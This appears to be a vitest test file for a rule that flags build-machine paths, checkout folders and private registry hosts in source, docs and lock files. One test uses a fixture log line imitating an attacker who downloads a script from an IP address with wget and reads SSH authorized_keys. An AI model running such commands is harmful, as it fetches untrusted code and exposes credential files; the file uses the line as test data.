import { expect, it } from 'vitest'
import { machineTraces, privateRegistryHost } from '../../../scripts/rules/portable-rule.ts'

const BUILD_MACHINE_FOLDER = ['', 'work', 'shared', 'data'].join('/')

it('finds a place of the build machine and the folder of the checkout', () => {
  const source = `fine\nreadFile('${BUILD_MACHINE_FOLDER}/x')\ncd /srv/picket-checkout/core\n`
  const lines = machineTraces('docs/a.md', source, ['/srv/picket-checkout']).map(({ line }) => line)
  expect(lines).toEqual([2, 3])
})

it('finds a registry in the lock file', () => {
  const lock = '{\n  "resolved": "https://registry.example/zod.tgz",\n  "integrity": "sha512-x"\n}\n'
  expect(machineTraces('package-lock.json', lock, []).map(({ line }) => line)).toEqual([2])
})

it('does not take the paths that attackers type for places of this machine', () => {
  const log = 'cd /tmp; wget http://198.51.100.9/x.sh; cat /root/.ssh/authorized_keys /home/pi/work.sh\n'
  expect(machineTraces('test/fixtures/a.log', log, ['/srv/picket-checkout'])).toEqual([])
})

it('knows a private registry from the public one', () => {
  expect(privateRegistryHost('https://registry.npmjs.org/')).toBeNull()
  expect(privateRegistryHost('http://mirror.example:4873/npm/')).toBe('mirror.example:4873')
})
